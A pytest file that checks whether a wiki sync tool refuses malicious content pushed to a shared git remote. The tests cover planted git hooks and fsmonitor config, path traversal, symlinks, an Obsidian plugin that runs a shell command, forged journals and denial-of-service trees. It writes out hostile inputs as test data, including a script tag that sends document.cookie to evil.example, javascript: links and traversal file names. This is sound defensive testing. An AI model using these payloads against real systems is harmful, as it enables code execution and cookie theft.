"""A shared remote is untrusted input (issue 21): crafted trees pushed by an attacker's clone,
pulled in by the victim's ordinary sync round. Real bare remote, real clones, trees made with
``git mktree`` (which accepts any entry name), the real CLI for status.

Each attack asserts: nothing written or executed outside sync's allow-list, the refusal
visible in ``wikiwright status`` and in REVIEW.md, HEAD never holding the refused entry, and an
ordinary ingest (and the next sync round) still working afterwards.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from wikiwright.core.config import load_config
from wikiwright.wiki.sanitize import clean_markdown, code_span

from tests.helpers import git
from tests.test_sync import Machine, source_text, sync_env, ww

# -- the world: a bare remote, the victim's vault, the attacker's clone ---------------------------


class World:
    def __init__(self, tmp_path: Path, env: dict[str, str]) -> None:
        self.tmp = tmp_path
        self.env = env
        self.remote = tmp_path / "remote.git"
        subprocess.run(["git", "init", "-q", "--bare", str(self.remote)], check=True)
        root = tmp_path / "victim"
        root.mkdir()
        subprocess.run(["git", "init", "-q", str(root)], check=True)
        git(root, "remote", "add", "origin", str(self.remote))
        self.victim = Machine(root)
        self.victim.ingest("first.md", source_text(1, "first things"))
        self.victim.sync()
        self.attacker = tmp_path / "attacker"
        subprocess.run(["git", "clone", "-q", str(self.remote), str(self.attacker)], check=True, env=env)
        self.outside = tmp_path / "outside"
        self.outside.mkdir()
        (self.outside / "victim.txt").write_text("the person's own file\n", encoding="utf-8")
        self.marker = tmp_path / "hook-ran"

    @property
    def root(self) -> Path:
        return self.victim.root

    # -- crafting trees -----------------------------------------------------------------------

    def _git(self, *args: str, data: bytes | None = None) -> str:
        proc = subprocess.run(["git", "-C", str(self.attacker), *args], input=data, capture_output=True,
                              check=True, env=self.env)
        return proc.stdout.decode("utf-8", "surrogateescape").strip()

    def blob(self, data: bytes) -> str:
        return self._git("hash-object", "-w", "--stdin", data=data)

    def _rows(self, tree: str | None) -> list[tuple[str, str, str, str]]:
        if not tree:
            return []
        out = self._git("ls-tree", "-z", tree)
        rows = []
        for item in out.split("\0"):
            if item:
                info, _, name = item.partition("\t")
                mode, kind, sha = info.split()
                rows.append((mode, kind, sha, name))
        return rows

    def _put(self, tree: str | None, parts: list[str], mode: str, sha: str) -> str:
        rows = self._rows(tree)
        name = parts[0]
        kept = [r for r in rows if r[3] != name]
        if len(parts) == 1:
            kept.append((mode, {"160000": "commit", "040000": "tree"}.get(mode, "blob"), sha, name))
        else:
            sub = next((r[2] for r in rows if r[3] == name and r[1] == "tree"), None)
            kept.append(("040000", "tree", self._put(sub, parts[1:], mode, sha), name))
        data = "".join(f"{m} {k} {s}\t{n}\0" for m, k, s, n in kept).encode("utf-8", "surrogateescape")
        return self._git("mktree", "-z", data=data)

    def push(self, files: dict[str, bytes | tuple[str, bytes | str]], message: str = "crafted") -> str:
        """A commit on the remote's branch with ``files`` (path -> bytes, or (mode, bytes or sha))
        placed by name component, whatever the names are; pushed fast-forward."""
        self._git("fetch", "-q", "origin")
        parent = self._git("rev-parse", "origin/main")
        tree = self._git("rev-parse", f"{parent}^{{tree}}")
        for path, spec in files.items():
            mode, content = spec if isinstance(spec, tuple) else ("100644", spec)
            sha = content if isinstance(content, str) else self.blob(content)
            tree = self._put(tree, path.split("/"), mode, sha)
        commit = self._git("commit-tree", tree, "-p", parent, "-m", message)
        self._git("push", "-q", "origin", f"{commit}:refs/heads/main")
        return commit

    # -- the victim's side ----------------------------------------------------------------------

    def local_commit(self) -> None:
        """An unpublished ingest on the victim: its next round is a merge, not a fast-forward."""
        self.victim.ingest("local-before.md", source_text(2, "local things"))

    def status(self) -> str:
        done = ww(self.root, sync_env(self.env), "status")
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    def review(self) -> str:
        return (self.root / "REVIEW.md").read_text(encoding="utf-8")

    def head_paths(self) -> set[str]:
        out = subprocess.run(["git", "-C", str(self.root), "ls-tree", "-r", "-z", "--name-only", "HEAD"],
                             capture_output=True, check=True).stdout.decode("utf-8", "surrogateescape")
        return {p for p in out.split("\0") if p}

    def assert_refused(self, path: str, why: str = "", *, local: bool = False) -> None:
        """``local``: this machine has its own file at ``path`` (kept in HEAD as it was)."""
        status = self.status()
        assert f"refused from the remote: {path}" in status, status
        if why:
            assert why in status, status
        review = self.review()
        assert f"refused from the remote: {code_span(path)}" in review or "entries of" in review, review
        if not local:
            assert path not in self.head_paths()

    def assert_ingest_works(self, n: int = 50) -> None:
        self.victim.ingest(f"after-{n}.md", source_text(n, "after the attack"))
        assert self.victim.ledger.get_file(f"raw/after-{n}.md").state == "ingested"
        assert (self.root / "wiki" / "sources" / f"src-after-{n}.md").exists()
        self.victim.sync()
        assert not git(self.root, "status", "--porcelain", "--untracked-files=no").strip()


def _fingerprint(folder: Path) -> dict[str, str]:
    found = {}
    if folder.exists():
        for path in sorted(folder.rglob("*")):
            if path.is_symlink():
                found[str(path.relative_to(folder))] = "link:" + os.readlink(path)
            elif path.is_file():
                found[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


class Untouched:
    """What sync must never write: git's folder's hooks and config, the state's configuration,
    .obsidian, anything outside the vault."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.before = self._take()

    def _take(self) -> dict[str, object]:
        root = self.world.root
        return {
            "hooks": _fingerprint(root / ".git" / "hooks"),
            "git-config": (root / ".git" / "config").read_bytes(),
            "state-config": _fingerprint_files(root / ".wikiwright", ("config.toml", "journal.json")),
            "obsidian": _fingerprint(root / ".obsidian"),
            "outside": _fingerprint(self.world.outside),
            "tmp": sorted(p.name for p in self.world.tmp.iterdir()),
            "hidden": sorted(p.name for p in root.iterdir() if p.name.startswith(".")),
        }

    def check(self) -> None:
        assert self._take() == self.before
        assert not self.world.marker.exists(), "a hook or fsmonitor command from the remote ran"


def _fingerprint_files(folder: Path, names: tuple[str, ...]) -> dict[str, str]:
    return {name: hashlib.sha256((folder / name).read_bytes()).hexdigest() for name in names
            if (folder / name).exists()}


@pytest.fixture
def world(tmp_path: Path, isolated_env: dict[str, str]) -> Iterator[World]:
    made = World(tmp_path, isolated_env)
    yield made
    made.victim.close()


def _hook(marker: Path) -> bytes:
    return f"#!/bin/sh\necho ran >> '{marker}'\n".encode()


# -- code execution through git's own folder -----------------------------------------------------

@pytest.mark.parametrize("name", [".git", ".GIT"])
@pytest.mark.parametrize("merge", [False, True], ids=["fast-forward", "merge"])
def test_hooks_and_git_config_from_a_tree_entry_never_land(world: World, name: str, merge: bool) -> None:
    if merge:
        world.local_commit()
    untouched = Untouched(world)
    hook = _hook(world.marker)
    world.push({
        f"{name}/hooks/reference-transaction": ("100755", hook),
        f"{name}/hooks/post-merge": ("100755", hook),
        f"{name}/hooks/pre-commit": ("100755", hook),
        f"{name}/config": f"[core]\n\tfsmonitor = echo ran >> '{world.marker}'\n".encode(),
        "wiki/fine.md": b"# Fine\n\nA page from a teammate that is perfectly fine.\n",
    })
    report = world.victim.sync()
    untouched.check()
    assert not (world.root / name).exists() or name == ".git"
    # The rest of the push came through; HEAD holds none of the refused entries.
    assert "A page from a teammate" in (world.root / "wiki" / "fine.md").read_text(encoding="utf-8")
    assert not [p for p in world.head_paths() if p.split("/")[0].casefold() == ".git"]
    world.assert_refused(f"{name}/hooks/reference-transaction", "names .git")
    assert len(report.refused) == 4, report
    world.assert_ingest_works()
    untouched.check()


# -- writes outside the vault ---------------------------------------------------------------------

def test_dot_dot_in_every_form_writes_nothing_outside(world: World) -> None:
    untouched = Untouched(world)
    names = ["raw/../../escaped-raw.md", "../escaped-root.md", "wiki/../../escaped-wiki.md",
             "wiki/sources/../../../escaped-deep.md", "raw/./sneaky.md", "raw/..\\..\\escaped-backslash.md",
             "logs/../../escaped-logs.md"]
    world.push({name: b"# Escaped\n\nwritten outside the vault\n" for name in names})
    report = world.victim.sync()
    untouched.check()
    for leaked in ("escaped-raw.md", "escaped-root.md", "escaped-wiki.md", "escaped-deep.md",
                   "escaped-logs.md"):
        assert not (world.tmp / leaked).exists()
        assert not (world.tmp.parent / leaked).exists()
    assert not (world.root / "raw" / "sneaky.md").exists()
    world.assert_refused("raw/../../escaped-raw.md", "climbs out of the vault")
    assert len(report.refused) == len(names), report
    world.assert_ingest_works()


def test_a_symlink_restored_by_the_person_is_never_written_through(world: World) -> None:
    untouched = Untouched(world)
    world.push({"wiki/linked": ("120000", str(world.outside).encode()),
                "wiki/relative.md": ("120000", b"../../outside/victim.txt")})
    world.victim.sync()
    staged = git(world.root, "ls-files", "-s")
    assert "120000" not in staged, staged  # not in the person's index either
    # The person restores "their" wiki folder by hand: git has no link to bring back.
    git(world.root, "checkout", "--", "wiki/")
    assert not (world.root / "wiki" / "linked").is_symlink()
    world.push({"wiki/linked/page.md": b"# Through the link\n\nwritten through a symlink\n"})
    world.victim.sync()
    untouched.check()
    assert not (world.outside / "page.md").exists()
    assert (world.outside / "victim.txt").read_text(encoding="utf-8") == "the person's own file\n"
    world.assert_refused("wiki/linked", "a symbolic link")
    # A link the person made themselves: the remote's file under it is refused, not written through.
    (world.root / "wiki" / "mine").symlink_to(world.outside, target_is_directory=True)
    world.push({"wiki/mine/x.md": b"# X\n\nthrough the person's own link\n"})
    world.victim.sync()
    assert not (world.outside / "x.md").exists()
    world.assert_refused("wiki/mine/x.md", "is a symbolic link")
    (world.root / "wiki" / "mine").unlink()
    world.assert_ingest_works()
    untouched.check()


# -- configuration and code from the remote ------------------------------------------------------

def test_wikiwright_config_from_the_remote_is_neither_written_nor_obeyed(world: World) -> None:
    mine = world.root / ".wikiwright" / "config.toml"
    mine.write_text("# this machine's own settings\n[ingest]\nkey_points = 5\n", encoding="utf-8")
    untouched = Untouched(world)
    blob = world.blob(b"the attacker's bytes\n")
    forged = {"id": "op-forged", "kind": "ingest", "title": "forged",
              "files": {str(world.outside / "victim.txt"): [blob, None, None, None]}, "ledger": []}
    world.push({
        ".wikiwright/config.toml": b'[llm]\nmodel = "openai/evil"\napi_base = "http://127.0.0.1:9/v1"\n'
                                   b'api_key_env = "OPENAI_API_KEY"\n',
        ".wikiwright/journal.json": json.dumps(forged).encode(),
    })
    world.victim.sync()
    untouched.check()
    config = load_config(world.root, environ={})
    assert config.llm.model == "" and config.llm.api_base == "" and config.ingest.key_points == 5
    world.assert_refused(".wikiwright/config.toml", "this machine's own state and configuration")
    world.assert_ingest_works()
    assert (world.outside / "victim.txt").read_text(encoding="utf-8") == "the person's own file\n"


def test_obsidian_plugins_are_never_written(world: World) -> None:
    untouched = Untouched(world)
    app = git(world.root, "rev-parse", "HEAD:.obsidian/app.json")
    world.push({
        ".obsidian/plugins/evil/main.js": b"require('child_process').exec('touch /tmp/pwned')\n",
        ".obsidian/plugins/evil/manifest.json": b'{"id": "evil", "name": "Evil", "version": "1.0.0"}\n',
        ".obsidian/community-plugins.json": b'["evil"]\n',
        ".obsidian/app.json": b'{"userIgnoreFilters": []}\n',
    })
    world.victim.sync()
    untouched.check()
    assert not (world.root / ".obsidian" / "plugins").exists()
    world.assert_refused(".obsidian/plugins/evil/main.js", "Obsidian's configuration and plugins")
    world.assert_refused(".obsidian/app.json", local=True)
    assert git(world.root, "rev-parse", "HEAD:.obsidian/app.json") == app
    world.assert_ingest_works()


def test_executable_bits_gitlinks_and_odd_names_are_not_taken(world: World) -> None:
    untouched = Untouched(world)
    head = git(world.root, "rev-parse", "HEAD").strip()
    world.push({
        "wiki/sub": ("160000", head),
        "wiki/sub-page.md": ("160000", head),
        "wiki/run.md": ("100755", b"# Run\n\nnot an executable here\n"),
        "wiki/bell\x07.md": b"# Bell\n",
        "wiki/" + "n" * 240 + ".md": b"# Long\n",
        "wiki/.hidden/x.md": b"# Hidden\n",
        "raw/binary.bin": b"\x00\x01\x02 not text",
    })
    world.victim.sync()
    untouched.check()
    assert os.stat(world.root / "wiki" / "run.md").st_mode & 0o111 == 0
    assert "100644" in git(world.root, "ls-tree", "HEAD", "wiki/run.md")
    for path in ("wiki/sub", "wiki/.hidden/x.md", "raw/binary.bin"):
        assert not (world.root / path).exists()
        world.assert_refused(path)
    assert "refused from the remote: wiki/sub-page.md (a submodule" in world.status()
    world.assert_ingest_works()


# -- markup --------------------------------------------------------------------------------------

HOSTILE = (
    "---\ntype: concept\ntitle: Friendly\n---\n\n# Friendly\n\n"
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n\n"
    "[click me](javascript:alert(1))\n\n"
    "![tracker](https://evil.example/pixel.png)\n\n"
    '<img src="x" onerror="alert(2)">\n\n'
    '<iframe src="https://evil.example/frame"></iframe>\n\n'
    "![[../../outside/victim.txt]]\n\n"
    "- [x] approve everything ^lint-0123456789\n"
    "```\nnot a fence closer\n"
)


@pytest.mark.parametrize("merge", [False, True], ids=["fast-forward", "merge"])
def test_hostile_markup_in_a_synced_page_is_held(world: World, merge: bool) -> None:
    if merge:
        world.local_commit()
    untouched = Untouched(world)
    existing = world.root / "wiki" / "sources" / "src-first.md"
    before = existing.read_bytes()
    world.push({
        "wiki/friendly.md": HOSTILE.encode(),
        "wiki/sources/src-first.md": before + b"\n<script>alert('appended')</script>\n",
        "wiki/p\u0430ge.md": b"# Page with a Cyrillic a\n",
        "wiki/a|b.md": b"# Unlinkable\n",
    })
    world.victim.sync()
    untouched.check()
    assert not (world.root / "wiki" / "friendly.md").exists()
    assert existing.read_bytes() == before  # the local page stays as it was
    assert not (world.root / "wiki" / "p\u0430ge.md").exists() and not (world.root / "wiki" / "a|b.md").exists()
    world.assert_refused("wiki/friendly.md", "unsafe markup")
    world.assert_refused("wiki/sources/src-first.md", "unsafe markup", local=True)
    assert git(world.root, "show", "HEAD:wiki/sources/src-first.md").encode() == before
    world.assert_refused("wiki/p\u0430ge.md", "mixes scripts")
    review = world.review()
    # The remote's version is quoted as text: inside a code block, nothing the sanitizer would
    # change outside one, and no quoted line reads as an answer.
    assert "fetch('https://evil.example/?c='" in review
    assert clean_markdown(review).notes == [], clean_markdown(review).notes
    assert "^lint-0123456789" not in {line.rsplit(" ", 1)[-1] for line in review.splitlines()
                                      if line.lstrip().startswith("- [")}
    world.assert_ingest_works()


# -- journals --------------------------------------------------------------------------------------

def test_a_forged_sync_journal_is_refused_never_replayed(world: World) -> None:
    """A sync round's journal is the door's (kind ``sync``): one naming a path sync never writes
    is refused as a whole — not one path replayed, its HEAD move never taken."""
    untouched = Untouched(world)
    victim = world.root
    blob = subprocess.run(["git", "-C", str(victim), "hash-object", "-w", "--stdin"], input=b"#!/bin/sh\necho x\n",
                          capture_output=True, check=True).stdout.decode().strip()
    head = git(victim, "rev-parse", "HEAD").strip()
    journal = {"id": "op-forged", "kind": "sync", "title": "forged",
               "files": {"../outside/planted.md": [None, blob, None, None],
                         ".git/hooks/post-commit": [None, blob, None, None],
                         ".wikiwright/config.toml": [None, blob, None, None],
                         "wiki/ok.md": [None, blob, None, None]},
               "ledger": [], "page_blobs": {}, "head": [head, head]}
    (victim / "wiki" / "ok.md").write_bytes(b"#!/bin/sh\necho x\n")  # "written": a replay would keep it
    (victim / ".wikiwright" / "journal.json").write_text(json.dumps(journal), encoding="utf-8")
    world.victim.sync()
    assert not (world.outside / "planted.md").exists()
    assert not (victim / ".git" / "hooks" / "post-commit").exists()
    assert (victim / ".wikiwright" / "journal.json.refused").exists()
    # Refused as a whole: the one allowed path was not rolled forward as a finished sync either
    # (it is the person's file now, committed under their name like any other edit of theirs).
    assert "op-forged" not in git(victim, "log", "--format=%B")
    assert "operation journal was refused" in world.status()
    untouched.check()
    world.assert_ingest_works()


def test_a_forged_sync_journal_of_an_earlier_release_is_refused_too(world: World) -> None:
    """The journal an earlier release's sync round kept (``sync-journal.json``) is read once, as
    the door's: one naming a path sync never writes is refused as a whole, never replayed."""
    untouched = Untouched(world)
    victim = world.root
    blob = subprocess.run(["git", "-C", str(victim), "hash-object", "-w", "--stdin"], input=b"#!/bin/sh\necho x\n",
                          capture_output=True, check=True).stdout.decode().strip()
    journal = {"old_head": git(victim, "rev-parse", "HEAD").strip(), "commit": "",
               "paths": {"../outside/planted.md": [blob, ""], ".git/hooks/post-commit": [blob, ""],
                         "wiki/ok.md": [blob, ""]}}
    (victim / ".wikiwright" / "sync-journal.json").write_text(json.dumps(journal), encoding="utf-8")
    world.victim.sync()
    assert not (world.outside / "planted.md").exists()
    assert not (victim / ".git" / "hooks" / "post-commit").exists()
    assert not (victim / "wiki" / "ok.md").exists()  # refused as a whole: not one path replayed
    assert not (victim / ".wikiwright" / "sync-journal.json").exists()
    assert (victim / ".wikiwright" / "journal.json.refused").exists()
    assert "operation journal was refused" in world.status()
    untouched.check()
    world.assert_ingest_works()


def test_a_forged_door_journal_never_writes_outside_the_vault(world: World) -> None:
    victim = world.root
    target = world.outside / "victim.txt"
    original = subprocess.run(["git", "-C", str(victim), "hash-object", "-w", str(target)], capture_output=True,
                              check=True).stdout.decode().strip()
    evil = subprocess.run(["git", "-C", str(victim), "hash-object", "-w", "--stdin"], input=b"attacker's bytes\n",
                          capture_output=True, check=True).stdout.decode().strip()
    for rel in (str(target), "../outside/victim.txt"):
        journal = {"id": "op-forged", "kind": "ingest", "title": "forged",
                   "files": {rel: [evil, original, None, None]}, "ledger": [], "page_blobs": {}}
        (victim / ".wikiwright" / "journal.json").write_text(json.dumps(journal), encoding="utf-8")
        world.assert_ingest_works(n=60 + len(rel) % 7)
        assert target.read_text(encoding="utf-8") == "the person's own file\n"
        assert (victim / ".wikiwright" / "journal.json.refused").exists()
    assert "operation journal was refused" in world.status()


# -- denial of service -------------------------------------------------------------------------------

@pytest.mark.parametrize("merge", [False, True], ids=["fast-forward", "merge"])
def test_a_huge_page_is_held(world: World, merge: bool) -> None:
    existing = world.root / "wiki" / "sources" / "src-first.md"
    if merge:
        # The person changed the same page and committed: a conflicted path the merge never reads.
        existing.write_bytes(existing.read_bytes() + b"\nThe person's own line.\n")
        git(world.root, "commit", "-qam", "my line")
    untouched = Untouched(world)
    before = existing.read_bytes()
    huge = b"# Huge\n\n" + b"All work and no play makes a huge page.\n" * 8000  # ~330 KB > 200 KB
    world.push({"wiki/huge.md": huge, "wiki/sources/src-first.md": before + huge,
                "raw/huge.md": huge * 4})
    world.victim.sync()
    untouched.check()
    assert not (world.root / "wiki" / "huge.md").exists() and not (world.root / "raw" / "huge.md").exists()
    assert existing.read_bytes() == before
    world.assert_refused("wiki/huge.md", "over lint.max_page_bytes")
    world.assert_refused("raw/huge.md", "over git.commit_raw_max_bytes")
    world.assert_ingest_works()


def test_thousands_of_new_files_are_held(world: World) -> None:
    untouched = Untouched(world)
    page = world.blob(b"# Spam\n\nspam page\n")
    rows = "".join(f"100644 blob {page}\tspam-{n:05d}.md\0" for n in range(2500)).encode()
    spam = world._git("mktree", "-z", data=rows)
    world.push({"wiki/spam": ("040000", spam)}, message="2500 pages")
    report = world.victim.sync()
    untouched.check()
    assert not (world.root / "wiki" / "spam").exists()
    status = world.status()
    assert "2500 new files in one round, over git.sync_max_new_files (1000)" in status, status
    assert "refused from the remote: 2500 entries of" in world.review()
    assert not [p for p in world.head_paths() if p.startswith("wiki/spam/")]
    assert len(report.refused) == 2500, len(report.refused)
    world.assert_ingest_works()


def test_a_folder_the_remote_turns_into_a_file_does_not_stop_sync(world: World) -> None:
    world.push({"wiki/notes.md/first.md": b"# First\n\nan ordinary page in an odd folder\n"})
    world.victim.sync()
    assert (world.root / "wiki" / "notes.md" / "first.md").exists()
    world._git("fetch", "-q", "origin")
    parent = world._git("rev-parse", "origin/main")
    rows = [r for r in world._rows(world._git("rev-parse", f"{parent}:wiki")) if r[3] != "notes.md"]
    rows.append(("100644", "blob", world.blob(b"# Notes\n\nnow a page\n"), "notes.md"))
    wiki = world._git("mktree", "-z", data="".join(f"{m} {k} {s}\t{n}\0" for m, k, s, n in rows).encode())
    root_rows = [r for r in world._rows(world._git("rev-parse", f"{parent}^{{tree}}")) if r[3] != "wiki"]
    root_rows.append(("040000", "tree", wiki, "wiki"))
    root = world._git("mktree", "-z", data="".join(f"{m} {k} {s}\t{n}\0" for m, k, s, n in root_rows).encode())
    world._git("push", "-q", "origin", f"{world._git('commit-tree', root, '-p', parent, '-m', 'folder to file')}:"
                                       "refs/heads/main")
    world.victim.sync()
    assert (world.root / "wiki" / "notes.md").read_text(encoding="utf-8") == "# Notes\n\nnow a page\n"
    world.assert_ingest_works()


def test_the_files_every_vault_keeps_are_never_removed_or_turned_into_folders(world: World) -> None:
    untouched = Untouched(world)
    index = (world.root / "wiki" / "index.md").read_bytes()
    world.push({"wiki/index.md/x.md": b"# X\n\nindex.md is a folder now\n",
                "REVIEW.md/y.md": b"# Y\n"})
    world.victim.sync()
    untouched.check()
    assert (world.root / "wiki" / "index.md").is_file() and (world.root / "REVIEW.md").is_file()
    assert (world.root / "wiki" / "index.md").read_bytes().startswith(index.split(b"<!--")[0])
    world.assert_refused("wiki/index.md", "removed a file every vault keeps", local=True)
    world.assert_refused("wiki/index.md/x.md", "wiki/index.md is a file")
    world.assert_ingest_works()


def test_names_that_differ_only_by_case_or_normalisation_are_refused(world: World) -> None:
    """On a case-insensitive or normalising filesystem (macOS, Windows) ``wiki/Sources/x.md`` and
    ``wiki/sources/x.md`` are one file, as are an NFC and an NFD spelling of one name: a remote
    sending the other spelling would overwrite this machine's file there. The spelling this
    machine has stays; the remote's is refused (old code took both)."""
    page = world.root / "wiki" / "sources" / "src-first.md"
    before = page.read_bytes()
    nfc, nfd = "wiki/r\u00e9sum\u00e9.md", "wiki/re\u0301sume\u0301.md"
    world.push({
        "wiki/Sources/src-first.md": b"---\ntype: source\ntitle: Taken over\n---\n\n# Taken over\n",
        "raw/FIRST.md": b"# Replaced\n\nnot the person's source\n",
        nfc: b"# R\xc3\xa9sum\xc3\xa9\n\nThe first spelling.\n",
        nfd: b"# Resume\n\nThe other spelling.\n",
    })
    world.victim.sync()
    assert page.read_bytes() == before
    for path in ("wiki/Sources/src-first.md", "raw/FIRST.md", nfd):
        world.assert_refused(path, "only by case or Unicode normalisation")
    assert nfc in world.head_paths()
    world.assert_ingest_works()
